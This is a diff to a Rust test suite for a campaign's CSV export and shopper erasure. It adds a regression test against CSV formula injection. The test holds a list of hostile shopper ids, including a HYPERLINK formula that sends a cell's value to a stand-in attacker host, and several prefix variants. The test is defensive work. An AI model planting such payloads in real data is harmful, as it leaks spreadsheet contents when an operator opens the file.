@@ -154,18 +154,20 @@ async fn a_campaign_exports_as_csv_and_a_shoppers_data_is_erased() {
             .unwrap()
             .starts_with("text/csv")
     );
-    let csv = response.text().await.unwrap();
-    let lines: Vec<&str> = csv.lines().collect();
-    assert!(
-        lines[0].starts_with("id,created_at,updated_at,status,user"),
-        "{csv}"
+    let sheet = Sheet::read(&response.text().await.unwrap());
+    assert_eq!(sheet.rows.len(), 2, "{sheet:?}");
+    let first = &sheet.rows[0];
+    assert_eq!(sheet.cell(first, "id"), &Cell::Text(ana.clone()));
+    assert_eq!(sheet.cell(first, "status"), &Cell::Text("accepted".into()));
+    assert_eq!(sheet.cell(first, "user"), &Cell::Text("ana".into()));
+    assert_eq!(
+        sheet.cell(first, "store"),
+        &Cell::Text(sandbox::sample::STORE.into())
     );
-    assert_eq!(lines.len(), 3, "{csv}");
-    assert!(
-        lines[1].starts_with(&format!("{ana},")) && lines[1].contains(",accepted,ana,"),
-        "{csv}"
+    assert_eq!(
+        sheet.cell(first, "total"),
+        &Cell::Number(sandbox::sample::TOTAL)
     );
-    assert!(lines[1].contains(sandbox::sample::STORE), "{csv}");
 
     let erased = app
         .operator(reqwest::Method::DELETE, "/v1/operator/users/ana")
@@ -194,5 +196,110 @@ async fn a_campaign_exports_as_csv_and_a_shoppers_data_is_erased() {
     .text()
     .await
     .unwrap();
-    assert!(!csv.contains(",ana,"), "{csv}");
+    let sheet = Sheet::read(&csv);
+    assert_eq!(sheet.rows.len(), 1, "{csv}");
+    assert_eq!(sheet.cell(&sheet.rows[0], "user"), &Cell::Text("bo".into()));
+}
+
+/// A CSV cell as a spreadsheet takes it when it opens the file: a number, a
+/// formula (what starts with `=`, `+`, `-` or `@` and is not a number; a
+/// leading tab or carriage return is dropped first by some), or text (a
+/// leading `'` says "text" and is not shown).
+#[derive(Debug, Clone, PartialEq)]
+enum Cell {
+    Number(f64),
+    Formula(String),
+    Text(String),
+}
+
+impl Cell {
+    fn of(field: &str) -> Self {
+        if let Ok(number) = field.parse::<f64>() {
+            return Self::Number(number);
+        }
+        let trimmed = field.trim_start_matches(['\t', '\r']);
+        if trimmed.starts_with(['=', '+', '-', '@']) {
+            return Self::Formula(field.to_owned());
+        }
+        Self::Text(field.strip_prefix('\'').unwrap_or(field).to_owned())
+    }
+}
+
+/// An export opened as a spreadsheet opens it: an RFC 4180 reader, each cell
+/// taken as [`Cell`] says.
+#[derive(Debug)]
+struct Sheet {
+    header: Vec<String>,
+    rows: Vec<Vec<Cell>>,
+}
+
+impl Sheet {
+    fn read(text: &str) -> Self {
+        let mut reader = csv::Reader::from_reader(text.as_bytes());
+        let header = reader
+            .headers()
+            .unwrap()
+            .iter()
+            .map(str::to_owned)
+            .collect();
+        let rows = reader
+            .records()
+            .map(|r| r.unwrap().iter().map(Cell::of).collect())
+            .collect();
+        Self { header, rows }
+    }
+
+    fn cell<'a>(&self, row: &'a [Cell], column: &str) -> &'a Cell {
+        let at = self
+            .header
+            .iter()
+            .position(|h| h == column)
+            .unwrap_or_else(|| panic!("no column {column} in {:?}", self.header));
+        &row[at]
+    }
+}
+
+/// A shopper id such as `=HYPERLINK(...)` came out of the export as a live
+/// formula (OWASP "CSV injection"), and the export had no duplicate or QR
+/// column to audit duplicates with.
+#[tokio::test]
+async fn a_shopper_id_written_as_a_formula_came_out_of_the_export_live() {
+    let app = spawn_app().await;
+    let hostile = [
+        "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")",
+        "+SUM(1+1)",
+        "@cmd",
+        "-2+3",
+        "\t=1+1",
+        "\r=1+1",
+    ];
+    for user in hostile {
+        decided(&app, user, fixtures::receipt_jpeg()).await;
+    }
+    let text = operator(
+        &app,
+        &format!("/v1/operator/campaigns/{CAMPAIGN}/export.csv"),
+    )
+    .await
+    .text()
+    .await
+    .unwrap();
+    let sheet = Sheet::read(&text);
+    assert_eq!(sheet.rows.len(), hostile.len());
+    for column in ["qr", "duplicate_of"] {
+        assert!(sheet.header.iter().any(|h| h == column), "{column}");
+    }
+    for (row, user) in sheet.rows.iter().zip(hostile) {
+        assert!(
+            !row.iter().any(|cell| matches!(cell, Cell::Formula(_))),
+            "{row:?}"
+        );
+        // The shopper's id reads as it was stored (trimmed), and the total is
+        // a number.
+        assert_eq!(sheet.cell(row, "user"), &Cell::Text(user.trim().to_owned()));
+        assert_eq!(
+            sheet.cell(row, "total"),
+            &Cell::Number(sandbox::sample::TOTAL)
+        );
+    }
 }
